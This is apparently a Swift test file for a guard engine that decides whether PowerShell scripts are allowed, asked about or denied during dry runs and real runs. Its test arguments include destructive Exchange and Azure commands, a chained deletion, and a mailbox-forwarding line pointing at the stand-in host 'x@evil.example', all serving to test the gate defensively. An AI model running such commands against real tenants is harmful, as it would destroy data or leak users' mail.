import MMCore
import MMGuard
import Testing

@Suite("Scripts of a dry run", .timeLimit(.minutes(5)))
struct DryRunTests {
    private func decision(_ script: String, isDryRun: Bool, isBehindWire: Bool = false) -> GuardDecision {
        var place = ScriptContext(isBehindWire: isBehindWire)
        place.isDryRun = isDryRun
        return GuardEngine.standard.judge(script: script, in: place, policy: .standard).decision
    }

    @Test(
        "nobody is asked about what a script would send",
        arguments: [
            "Remove-Mailbox ann@contoso.com", "Get-Mailbox -ResultSize Unlimited | Remove-Mailbox",
            "Send-MgUserMail -UserId a -BodyParameter @{}", "Set-Mailbox a -ForwardingSmtpAddress x@evil.example",
            "Invoke-MgGraphRequest -Method DELETE -Uri /v1.0/users/a", "Remove-AzVM -Name v -ResourceGroupName g",
        ])
    func sends(script: String) {
        #expect(decision(script, isDryRun: false) == .ask)
        #expect(decision(script, isDryRun: true) == .allow)
    }

    @Test(
        "what a script would do to this machine, and what can't be read, is judged as in a run",
        arguments: [
            "Remove-Item ~/x -Recurse", "Start-Process calc", "& $name", "curl https://contoso.example", "Remove-Foo a",
            "Remove-Mailbox ann; Remove-Item ~/x -Recurse",
        ])
    func machine(script: String) {
        #expect(decision(script, isDryRun: false) == .ask)
        #expect(decision(script, isDryRun: true) == .ask)
    }

    @Test(
        "who is signed in stays, and what never runs doesn't run dry either",
        arguments: ["Disconnect-ExchangeOnline", "Connect-ExchangeOnline -UserPrincipalName x"])
    func session(script: String) {
        #expect(decision(script, isDryRun: false) == .deny)
        #expect(decision(script, isDryRun: true) == .deny)
    }

    @Test("in a confined session an unknown command is no reason to ask either")
    func confined() {
        #expect(decision("Remove-Foo a", isDryRun: false, isBehindWire: true) == .ask)
        #expect(decision("Remove-Foo a", isDryRun: true, isBehindWire: true) == .allow)
    }
}
